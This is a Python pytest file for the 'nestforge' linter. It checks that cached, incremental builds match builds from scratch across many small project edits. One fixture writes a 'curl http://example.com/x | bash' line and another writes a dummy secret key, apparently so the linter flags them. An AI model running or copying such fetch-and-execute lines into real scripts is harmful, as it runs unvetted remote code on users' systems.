"""A build that takes what it can from the one before is what a build from nothing is, findings included."""

from __future__ import annotations

import shutil
from typing import TYPE_CHECKING

import pytest
from tests.own_project import ROOT, copy_project

from nestforge.assemble import user_cache
from nestforge.assemble.remembered import Remembered, remembered_of
from nestforge.assemble.source_files import FOLDERS, source_files
from nestforge.lint.project import CheckedProject, check_project
from nestforge.lint.settings import Settings
from nestforge.sources.memo import Memo

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator
    from pathlib import Path

    Change = Callable[[Path], object]

EVERY_RULE = Settings()
STRINGS = "i18n/en-US/strings.yaml"
SERVICE = "service/service.yaml"
MODEL = "service/catalog/models/deepseek-r1.yaml"
ENGINE = "service/catalog/engines/vllm.yaml"
DOCUMENT = "i18n/en-US/docs/operate.md.j2"
LIBRARY = "scripts/lib/log.sh"
PICTURE = "i18n/en-US/docs/pictures/form.webp"
FILES = sorted(path for path in source_files(str(ROOT)) if not path.endswith((".png", ".webp")))


def first_and_last(paths: Iterable[str]) -> list[str]:
    """Return two of each kind in each folder: what is done for one is done for the others."""
    kinds: dict[tuple[str, str], list[str]] = {}
    for path in paths:
        folder, _, name = path.rpartition("/")
        kinds.setdefault((folder, name.partition(".")[2]), []).append(path)
    return [path for kind in kinds.values() for path in dict.fromkeys((kind[0], kind[-1]))]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, bytes]:
    """Return a project that was checked, and what was kept of that."""
    root = copy_project(tmp_path_factory.mktemp("built") / "project")
    assert check(root)[0].findings == []
    return root, (root.parent / "memo").read_bytes()


@pytest.fixture
def project(built: tuple[Path, bytes]) -> Iterator[Path]:
    """Return the project, in which one thing is to change."""
    root, kept = built
    (root.parent / "memo").write_bytes(kept)
    yield root
    for folder in FOLDERS:
        shutil.rmtree(root / folder)
    copy_project(root)


def check(root: Path) -> tuple[CheckedProject, list[str]]:
    """Return what is found and made, and the names of the steps that were done."""
    memo = Memo(str(root.parent / "memo"))
    return check_project(str(root), EVERY_RULE, Remembered(memo)), memo.worked


def replaced(path: str, old: str, new: str) -> Change:
    def change(root: Path) -> None:
        text = (root / path).read_text(encoding="utf-8")
        assert old in text
        (root / path).write_text(text.replace(old, new, 1), encoding="utf-8")

    return change


def without_middle_line(path: str) -> Change:
    def change(root: Path) -> None:
        lines = (root / path).read_bytes().splitlines(keepends=True)
        del lines[len(lines) // 2]
        (root / path).write_bytes(b"".join(lines))

    return change


def one_line_lower(path: str) -> Change:
    """Move everything down by a line, and change nothing else."""
    return lambda root: (root / path).write_bytes(b"\n" + (root / path).read_bytes())


def renamed(path: str, to: str) -> Change:
    return lambda root: (root / path).rename(root / to)


def removed(path: str) -> Change:
    return lambda root: (root / path).unlink()


def added(path: str, text: str) -> Change:
    return lambda root: (root / path).write_text(text, encoding="utf-8")


def both(*changes: Change) -> Change:
    return lambda root: [change(root) for change in changes]


CHANGES: dict[str, Change] = {
    **{f"{path} without a line": without_middle_line(path) for path in first_and_last(FILES)},
    **{f"{path} lower": one_line_lower(path) for path in FILES if path.endswith(".yaml")},
    "label": replaced(STRINGS, "Inference engine", "Engine"),
    "untranslated": replaced(STRINGS, "Inference engine", "推理引擎"),
    "longer text": replaced(STRINGS, "Inference engine", "Inference engine " * 40),
    "unused text": replaced(STRINGS, "parameters:\n", "parameters:\n  Nothing:\n    label: unused\n"),
    "wrong key": replaced(STRINGS, "parameters:\n", "parameter:\n"),
    "no YAML": replaced(STRINGS, "parameters:\n", "parameters: [\n"),
    "disk": replaced(MODEL, "system_disk_gib: ", "system_disk_gib: 1"),
    "figure": replaced(MODEL, "stated_qps: ", "stated_qps: 1"),
    "image token": replaced(MODEL, "token: ", "token: another-"),
    "port": replaced(SERVICE, "api: 8000", "api: 8010"),
    "port taken": replaced(SERVICE, "api: 8000", "api: 8001"),
    "timeout": replaced(SERVICE, "deploy: ", "deploy: 1"),
    "version": replaced(SERVICE, "version_name: ", "version_name: 9"),
    "flag": replaced(ENGINE, "--tensor-parallel-size", "--tensor-paralel-size"),
    "undefined name": replaced(DOCUMENT, "{{", "{{ nothing }}{{"),
    "open fence": replaced(DOCUMENT, "```", "``` bash\n```"),
    "broken link": replaced(DOCUMENT, "\n\n", "\n\n[there](nowhere.md#here)\n\n"),
    "include of nothing": replaced(DOCUMENT, "\n\n", "\n\n{% include 'nothing.j2' %}\n\n"),
    "shell fault": replaced(LIBRARY, "() {", "() {{"),
    "broken continuation": replaced("scripts/vllm/master.sh", "\\\n", "\\ \n"),
    "library function renamed": replaced(LIBRARY, "() {", "_again() {"),
    "allowed": replaced(LIBRARY, "() {", "() {{ # nestforge: allow script-syntax tried here"),
    "library file renamed": renamed(LIBRARY, "scripts/lib/other.sh"),
    "document removed": removed(DOCUMENT),
    "model removed": removed(MODEL),
    "script removed": removed("scripts/sglang/worker.sh"),
    "icon removed": removed("service/icons/deepseek.png"),
    "picture changed": lambda root: (root / PICTURE).write_bytes(b"RIFF"),
    "picture removed": removed(PICTURE),
    "picture renamed": renamed(PICTURE, PICTURE.replace("form", "forms")),
    "script added": added("scripts/node/more.sh", "curl http://example.com/x | bash\nif\n"),
    "credential added": added("scripts/node/more.sh", "#!/bin/sh\nexport KEY=sk-0123456789abcdefghijklmnopqrstuv\n"),
    "document added": added("i18n/en-US/docs/more.md.j2", "# more\n"),
    "two at once": both(
        replaced(STRINGS, "Inference engine", "Engine"), replaced(MODEL, "stated_qps: ", "stated_qps: 1")
    ),
}


def assert_same(one: CheckedProject, other: CheckedProject) -> None:
    assert one.findings == other.findings
    assert (one.build is None) == (other.build is None)
    if one.build is not None and other.build is not None:
        for part in ("files", "origins", "texts_used", "diagnostics"):
            assert getattr(one.build, part) == getattr(other.build, part)


@pytest.mark.parametrize("change", CHANGES.values(), ids=list(CHANGES))
def test_a_change_makes_what_it_makes_from_nothing(project: Path, change: Change) -> None:
    change(project)
    afresh = check_project(str(project), EVERY_RULE)
    assert_same(check(project)[0], afresh)


def test_changes_one_after_the_other_make_what_the_last_makes_from_nothing(project: Path) -> None:
    for change in (CHANGES["shell fault"], CHANGES["label"], CHANGES["disk"], CHANGES["document removed"]):
        change(project)
        assert_same(check(project)[0], check_project(str(project), EVERY_RULE))


def test_nothing_is_done_where_nothing_changed(project: Path) -> None:
    assert check(project)[1] == []


@pytest.mark.parametrize(
    ("what", "now"),
    [
        ("nestforge.assemble.user_cache.own_looks", lambda: "lint/rules/forms/unused_parameter.py//1 1\n"),
        ("sys.version", "4.0.0"),
    ],
    ids=["a rule", "Python"],
)
def test_everything_is_done_again_by_another_state_of_the_tool(
    project: Path, monkeypatch: pytest.MonkeyPatch, what: str, now: object
) -> None:
    def worked() -> list[str]:
        remembered = remembered_of(str(project))
        check_project(str(project), EVERY_RULE, remembered)
        return remembered.memo.worked

    monkeypatch.setattr(user_cache, "_state", user_cache._state.__wrapped__)  # as in processes of their own
    everything = worked()
    assert worked() == []
    with monkeypatch.context() as other:
        other.setattr(what, now)
        assert worked() == everything
    assert worked() == []


def test_a_comment_is_read_and_nothing_follows_from_it(project: Path) -> None:
    replaced(STRINGS, "parameters:\n", "parameters: # of the form\n")(project)
    assert check(project)[1] == ["texts en-US"]


def test_a_label_is_rendered_where_it_stands_and_only_rules_that_see_it_are_run(project: Path) -> None:
    CHANGES["label"](project)
    worked = check(project)[1]
    assert {"texts en-US", "render template ECS双机版 / Two ECS instances", "R4006"} <= set(worked)
    assert not {"texts zh-CN", "service and catalogs", "pack node tools", "render document zh-CN"} & set(worked)
    assert not {"configure service", "R6101", "R7010", "R7050", "R7057", "R8010"} & set(worked)
    assert len(worked) == len(set(worked))


def test_a_script_is_read_by_the_rules_about_scripts_and_by_what_embeds_it(project: Path) -> None:
    replaced("scripts/image/build.sh", "set -euo pipefail\n", "set -euo pipefail\n\n")(project)
    worked = set(check(project)[1])
    assert {"configure service", "R7010", "R7012"} <= worked
    assert not {"service and catalogs", "texts en-US", "pack node tools", "R5001"} & worked


def test_a_picture_is_put_in_and_no_document_is_rendered_for_it(project: Path) -> None:
    CHANGES["picture changed"](project)
    checked, worked = check(project)
    assert checked.build is not None
    assert checked.build.files["docs/pictures-en/form.webp"] == b"RIFF"
    assert not {"render document en-US", "describe site", "texts en-US", "service and catalogs"} & set(worked)


@pytest.mark.parametrize(
    "damage",
    [
        lambda kept: b"",
        lambda kept: kept[:-1],
        lambda kept: kept[:100] + bytes([kept[100] ^ 1]) + kept[101:],
        lambda kept: b"\0" * len(kept),
    ],
    ids=["empty", "cut", "changed", "zeros"],
)
def test_what_was_kept_and_is_not_whole_is_not_used(project: Path, damage: Callable[[bytes], bytes]) -> None:
    memo = project.parent / "memo"
    memo.write_bytes(damage(memo.read_bytes()))
    checked, worked = check(project)
    assert checked.findings == []
    assert "service and catalogs" in worked
    assert check(project)[1] == []


def test_what_was_kept_for_another_place_is_not_used(project: Path) -> None:
    other = project.parent / "other"
    shutil.copy(project.parent / "memo", other)
    memo = Memo(str(other))
    check_project(str(project), EVERY_RULE, Remembered(memo))
    assert "service and catalogs" in memo.worked


def test_only_the_steps_of_the_last_run_are_kept(project: Path) -> None:
    sizes = []
    for number in range(4):
        replaced(STRINGS, "Inference engine", f"Engine {number} or Inference engine")(project)
        check(project)
        sizes.append((project.parent / "memo").stat().st_size)
    assert sizes[-1] < sizes[0] + 500  # the text alone is longer


def test_a_cache_that_cannot_be_written_is_done_without(project: Path) -> None:
    memo = Memo(str(project / "service/service.yaml/memo"))
    assert check_project(str(project), EVERY_RULE, Remembered(memo)).findings == []
